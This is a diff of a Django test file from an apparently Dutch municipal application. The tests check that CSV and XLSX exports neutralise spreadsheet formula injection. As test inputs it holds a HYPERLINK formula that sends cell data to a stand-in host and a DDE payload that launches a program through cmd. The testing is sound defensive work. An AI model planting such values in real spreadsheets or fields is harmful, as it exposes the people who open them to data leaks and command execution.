@@ -16,7 +16,9 @@ from django.utils import timezone
 from openpyxl import load_workbook
 
 from iwerk.core import export
-from iwerk.werkplek.tests.conftest import demo, sign_in  # noqa: F401 - fixture
+from iwerk.core.testing import catalogus as build
+from iwerk.core.testing import zaken as bouw
+from iwerk.core.testing.medewerkers import demo_medewerker, sign_in
 
 HOSTIEL = [
     '=HYPERLINK("http://x.invalid/?"&A1;"klik")',
@@ -148,29 +150,40 @@ def test_no_module_writes_csv_or_xlsx_without_the_neutralising_writer():
 # Every export, with hostile text where it really comes from.
 
 
+@pytest.fixture
+def gemeenten_met_staf(gemeenten, werkplek_settings):
+    """The three gemeenten and the demo's FG, functioneel beheerder and two managers."""
+    for username in ("fg", "fbeheerder", "tbos", "gmulder"):
+        demo_medewerker(gemeenten, username)
+    return gemeenten
+
+
 @pytest.mark.django_db
-def test_the_audit_csv_quotes_a_hostile_user_representation(demo):  # noqa: F811
+def test_the_audit_csv_quotes_a_hostile_user_representation(gemeenten_met_staf):
     from iwerk.core.models import Inzage
 
     Inzage.objects.create(
-        tenant=demo["deventer"], wanneer=timezone.now(), kanaal="api", soort="zaak",
+        tenant=gemeenten_met_staf["deventer"], wanneer=timezone.now(), kanaal="api", soort="zaak",
         gebruikers_id="aanvaller", gebruikers_weergave=HOSTIEL[0], applicatie_id="@app",
         omschrijving="-1+1",
     )  # fmt: skip
     fg = sign_in("fg")
-    fg.post("/werkplek/gemeente/", {"gemeente": demo["deventer"].pk})
+    fg.post("/werkplek/gemeente/", {"gemeente": gemeenten_met_staf["deventer"].pk})
     rijen = _csv(fg.get("/werkplek/audit/", {"persoon": "aanvaller", "formaat": "csv"}))
     _veilig_csv(rijen, HOSTIEL[0], "@app", "-1+1")
 
 
 @pytest.fixture
-def sturing(demo):  # noqa: F811
+def sturing(gemeenten_met_staf):
     from iwerk.sturing.models import Zaakfeit
-    from iwerk.sturing.verversen import verversen
+    from iwerk.sturing.services.verversen import verversen
 
+    zaaktype = build.gepubliceerd_zaaktype(build.catalogus(gemeenten_met_staf["deventer"]))
+    for _ in range(2):
+        bouw.zaak(zaaktype)
     verversen()
-    Zaakfeit.objects.filter(tenant_id=demo["deventer"].pk).update(behandelaar="=1+1")
-    return demo
+    Zaakfeit.objects.filter(tenant_id=gemeenten_met_staf["deventer"].pk).update(behandelaar="=1+1")
+    return gemeenten_met_staf
 
 
 @pytest.mark.django_db
@@ -184,7 +197,7 @@ def test_the_sturing_drill_down_quotes_a_hostile_behandelaar(sturing, formaat):
 
 
 @pytest.mark.django_db
-def test_the_sturing_cost_tables_quote_hostile_text(demo):  # noqa: F811
+def test_the_sturing_cost_tables_quote_hostile_text(gemeenten_met_staf):
     from iwerk.sturing.demo import load_kosten
     from iwerk.sturing.models import Besparingsdoel
 
@@ -204,28 +217,30 @@ def test_the_sturing_cost_tables_quote_hostile_text(demo):  # noqa: F811
 
 
 @pytest.mark.django_db
-def test_the_ensia_incident_csv_quotes_a_hostile_name(demo):  # noqa: F811
-    demo["deventer"].naam = "=Deventer"
-    demo["deventer"].save(update_fields=["naam"])
+def test_the_ensia_incident_csv_quotes_a_hostile_name(gemeenten_met_staf):
+    gemeenten_met_staf["deventer"].naam = "=Deventer"
+    gemeenten_met_staf["deventer"].save(update_fields=["naam"])
     fg = sign_in("fg")
-    fg.post("/werkplek/gemeente/", {"gemeente": demo["deventer"].pk})
+    fg.post("/werkplek/gemeente/", {"gemeente": gemeenten_met_staf["deventer"].pk})
     rijen = _csv(fg.get(f"/werkplek/incidenten/rapportage/?jaar={date.today().year}&formaat=csv"))
     _veilig_csv(rijen, "=Deventer")
 
 
 @pytest.fixture
-def portfolio(demo):  # noqa: F811
+def portfolio(gemeenten_met_staf):
     from iwerk.portfolio.demo import load_portfolio
     from iwerk.portfolio.models import Applicatie, Gebruik, Referentiecomponent
 
-    load_portfolio(list(demo.values()))
+    load_portfolio(list(gemeenten_met_staf.values()))
     app = Applicatie.objects.create(naam="=cmd|' /C calc'!A0", leverancier="@leverancier",
                                     versie="-1", kosten_per_jaar=Decimal(1000))  # fmt: skip
     app.componenten.add(Referentiecomponent.objects.create(gemma_id="x-1", naam="+component"))
     Gebruik.objects.create(
-        applicatie=app, gemeente=demo["deventer"], sinds=date.today() - timedelta(days=400)
+        applicatie=app,
+        gemeente=gemeenten_met_staf["deventer"],
+        sinds=date.today() - timedelta(days=400),
     )
-    return demo
+    return gemeenten_met_staf
 
 
 @pytest.mark.django_db
@@ -256,8 +271,8 @@ def test_the_portfolio_cost_export_quotes_hostile_names(portfolio, formaat):
 @pytest.mark.django_db
 @pytest.mark.parametrize("formaat", ["csv", "xlsx"])
 def test_an_exported_application_list_imports_as_it_was(portfolio, formaat):
-    from iwerk.portfolio import lijst
     from iwerk.portfolio.models import Applicatie
+    from iwerk.portfolio.services import lijst
 
     client = sign_in("fbeheerder")
     client.post("/werkplek/gemeente/", {"gemeente": portfolio["deventer"].pk})
